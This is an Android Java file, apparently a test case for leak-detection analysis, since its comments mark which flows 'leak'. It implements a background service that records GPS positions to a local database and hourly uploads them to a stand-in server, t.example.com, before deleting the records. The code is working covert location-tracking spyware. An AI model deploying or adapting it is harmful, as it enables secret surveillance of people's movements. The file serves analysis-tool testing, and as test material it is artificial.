package stealers;

import android.app.*;
import android.content.*;
import android.database.Cursor;
import android.database.sqlite.*;
import android.location.*;
import android.os.*;

import org.json.*;

import java.io.*;
import java.net.*;

/** Places go to a table; an alarm empties it to a server. */
public class TrackRows extends Service implements LocationListener {
    static class Db extends SQLiteOpenHelper {
        static final String TABLE = "p";

        Db(Context c) {
            super(c, "p.db", null, 1);
        }

        @Override
        public void onCreate(SQLiteDatabase d) {
            d.execSQL("create table " + TABLE + " (_id integer primary key autoincrement, la real, lo real, t integer, note text)");
        }

        @Override
        public void onUpgrade(SQLiteDatabase d, int a, int b) {}

        void add(double la, double lo, long t) {
            ContentValues v = new ContentValues();
            v.put("la", la);
            v.put("lo", lo);
            v.put("t", t);
            v.put("note", "auto");
            getWritableDatabase().insert(TABLE, null, v);
        }
    }

    @Override
    public IBinder onBind(Intent i) {
        return null;
    }

    @Override
    public int onStartCommand(Intent i, int f, int id) {
        LocationManager m = (LocationManager) getSystemService(LOCATION_SERVICE);
        m.requestLocationUpdates(LocationManager.GPS_PROVIDER, 60000, 10f, this);
        AlarmManager a = (AlarmManager) getSystemService(ALARM_SERVICE);
        PendingIntent p = PendingIntent.getBroadcast(this, 0, new Intent(this, Wake.class), 0);
        a.setRepeating(AlarmManager.RTC_WAKEUP, System.currentTimeMillis(), 3600000L, p);
        return START_STICKY;
    }

    @Override
    public void onLocationChanged(Location l) {
        new Db(this).add(l.getLatitude(), l.getLongitude(), l.getTime());
    }

    public void onStatusChanged(String p, int s, Bundle b) {}

    public void onProviderEnabled(String p) {}

    public void onProviderDisabled(String p) {}

    public static class Wake extends BroadcastReceiver {
        @Override
        public void onReceive(Context c, Intent i) {
            c.startService(new Intent(c, Upload.class));
        }
    }

    public static class Upload extends IntentService {
        public Upload() {
            super("u");
        }

        @Override
        protected void onHandleIntent(Intent i) {
            SQLiteDatabase d = new Db(this).getReadableDatabase();
            Cursor c = d.query(Db.TABLE, new String[] {"_id", "la", "lo", "note"}, null, null, null, null, "t ASC");
            JSONArray all = new JSONArray();
            String note = "";
            try {
                while (c.moveToNext()) {
                    JSONObject o = new JSONObject();
                    o.put("x", c.getDouble(1)).put("y", c.getDouble(2));
                    all.put(o);
                    note = c.getString(3);
                }
                HttpURLConnection h = (HttpURLConnection) new URL("http://t.example.com/gps").openConnection();
                h.setDoOutput(true);
                DataOutputStream out = new DataOutputStream(h.getOutputStream());
                out.writeBytes("rows=" + URLEncoder.encode(all.toString(), "UTF-8")); // leak
                out.writeBytes("&note=" + note); // no leak
                out.close();
                d.delete(Db.TABLE, null, null);
            } catch (Exception e) {
                e.printStackTrace();
            }
        }
    }
}
